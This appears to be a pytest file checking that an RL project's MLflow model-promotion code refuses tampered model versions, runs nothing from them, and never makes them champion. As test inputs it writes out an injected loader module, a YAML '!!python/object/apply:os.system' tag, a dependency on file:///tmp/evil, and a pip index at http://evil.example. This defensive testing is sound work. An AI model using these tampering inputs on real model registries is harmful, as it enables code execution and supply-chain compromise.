"""Registered versions that were changed in the store: no code in them is run, and none becomes champion."""

from pathlib import Path
from urllib.parse import urlparse

import pytest
import yaml
from mlflow_store import BAD, GOOD, run_with_policy

from rl_training.cli.app import run
from rl_training.errors import CheckpointError, TrackingError
from rl_training.experiment.loading import config_of_checkpoint
from rl_training.promotion.model_registry import get_champion, get_or_register
from rl_training.promotion.promote import promote
from rl_training.promotion.rollback import roll_back

MODEL = "CartPole-v1"
EVIL = 'from pathlib import Path\nPath({mark!r}).write_text("ran")\ndef _load_pyfunc(path): pass\n'


def version_files(client) -> Path:
    """Returns the folder of the newest version's files in the store."""
    versions = client.search_model_versions(f"name = '{MODEL}'")
    newest = max(versions, key=lambda version: int(version.version))
    return Path(urlparse(client.get_model_version_download_uri(MODEL, newest.version)).path)


def change_yaml(path: Path, **changed) -> None:
    path.write_text(yaml.safe_dump({**yaml.safe_load(path.read_text()), **changed}))


def other_loader(files: Path, mark: Path) -> None:
    (files / "code").mkdir()
    (files / "code" / "evil_loader.py").write_text(EVIL.format(mark=str(mark)))
    model = yaml.safe_load((files / "MLmodel").read_text())
    model["flavors"]["python_function"] |= {"loader_module": "evil_loader", "code": "code"}
    (files / "MLmodel").write_text(yaml.safe_dump(model))


def loader_of_the_path(files: Path, mark: Path) -> None:
    model = yaml.safe_load((files / "MLmodel").read_text())
    model["flavors"]["python_function"]["loader_module"] = "antigravity"
    (files / "MLmodel").write_text(yaml.safe_dump(model))


def another_flavor(files: Path, mark: Path) -> None:
    model = yaml.safe_load((files / "MLmodel").read_text())
    model["flavors"]["sklearn"] = {"pickled_model": "data"}
    (files / "MLmodel").write_text(yaml.safe_dump(model))


def tagged(files: Path, mark: Path) -> None:
    with (files / "MLmodel").open("a") as file:
        file.write(f"metadata: !!python/object/apply:os.system ['touch {mark}']\n")


def metadata(files: Path, mark: Path) -> None:
    change_yaml(files / "MLmodel", env_vars=["A"])


def requirement(files: Path, mark: Path) -> None:
    with (files / "requirements.txt").open("a") as file:
        file.write("\nevil @ file:///tmp/evil\n")


def conda(files: Path, mark: Path) -> None:
    change_yaml(files / "conda.yaml", dependencies=["python=3.11.7", {"pip": ["--index-url http://evil.example", "x"]}])


def huge(files: Path, mark: Path) -> None:
    with (files / "MLmodel").open("a") as file:
        file.write("#" * 100_000)


CHANGES = {
    other_loader: "it has code, which no version of ours has",
    loader_of_the_path: "loader_module of its python_function is 'antigravity'",
    another_flavor: "MLmodel has other flavors",
    tagged: "its MLmodel can't be read",
    metadata: "MLmodel has env_vars",
    requirement: "its requirements name 'evil @ file:///tmp/evil'",
    conda: "its requirements name '--index-url http://evil.example'",
    huge: "its MLmodel is larger than 65,536 bytes",
}


def test_a_version_that_differs_is_refused_runs_nothing_and_never_becomes_champion(client, tmp_path, capsys):
    checkpoint, run_id = run_with_policy(GOOD)
    config = config_of_checkpoint(checkpoint, {"promotion": {"episodes": 20}})
    uri = f"sqlite:///{tmp_path}/home/mlflow.db"
    client_version, _ = get_or_register(client, uri, MODEL, checkpoint, config, run_id)
    assert client_version.version in (1, "1")
    files = version_files(client)
    originals = {path: path.read_bytes() for path in files.iterdir() if path.is_file()}
    mark = tmp_path / "mark"
    for change, words in CHANGES.items():
        change(files, mark)
        assert run(["promote", str(checkpoint.path), "--set", "promotion.episodes=20"]) == 2
        errors = [line for line in capsys.readouterr().err.splitlines() if line.startswith("error: ")]
        assert len(errors) == 1
        assert words in errors[0], change.__name__
        assert "delete that version" in errors[0]
        assert not mark.exists()
        assert get_champion(client, MODEL) is None
        for path, data in originals.items():
            path.write_bytes(data)
        if (files / "code").exists():
            (files / "code" / "evil_loader.py").unlink()
            (files / "code").rmdir()
    assert promote(checkpoint, config, run_id=run_id).alias == "champion"


def test_a_champion_before_that_was_changed_does_not_come_back(client, tmp_path):
    bad, bad_run = run_with_policy(BAD, seed=1)
    promote(bad, config_of_checkpoint(bad, {"promotion": {"episodes": 20}}), run_id=bad_run)
    other_loader(version_files(client), tmp_path / "mark")
    good, good_run = run_with_policy(GOOD, seed=2)
    promote(good, config_of_checkpoint(good, {"promotion": {"episodes": 20}}), run_id=good_run)
    with pytest.raises(CheckpointError, match=r"version 1 of CartPole-v1.*can't be used: it has code"):
        roll_back(MODEL, reason="a test")
    assert str(get_champion(client, MODEL).version) == "2"
    assert not (tmp_path / "mark").exists()


@pytest.mark.parametrize(
    "text", ["{", "[" * 100_000, *(pytest.param(text, marks=pytest.mark.slow) for text in ("{}", '["1", 2]', "NaN"))]
)
def test_a_tag_that_somebody_has_changed_is_named_and_nobody_becomes_champion(client, capsys, text):
    for i, gains in enumerate((BAD, GOOD)):
        checkpoint, run_id = run_with_policy(gains, seed=i)
        promote(checkpoint, config_of_checkpoint(checkpoint, {"promotion": {"episodes": 20}}), run_id=run_id)
    client.set_model_version_tag(MODEL, "2", "gate.earlier_champions", text)
    assert run(["rollback", MODEL, "--reason", "a test"]) == 2
    errors = [line for line in capsys.readouterr().err.splitlines() if line.startswith("error: ")]
    assert len(errors) == 1
    assert "the tag gate.earlier_champions of version 2 of CartPole-v1 is damaged" in errors[0]
    assert str(get_champion(client, MODEL).version) == "2"
    client.set_model_version_tag(MODEL, "2", "gate.earlier_champions", "[]")
    client.set_model_version_tag(MODEL, "1", "gate.rolled_back", text)
    with pytest.raises(TrackingError, match=r"the tag gate\.rolled_back of version 1 of CartPole-v1 is damaged"):
        roll_back(MODEL, reason="a test", version="1")
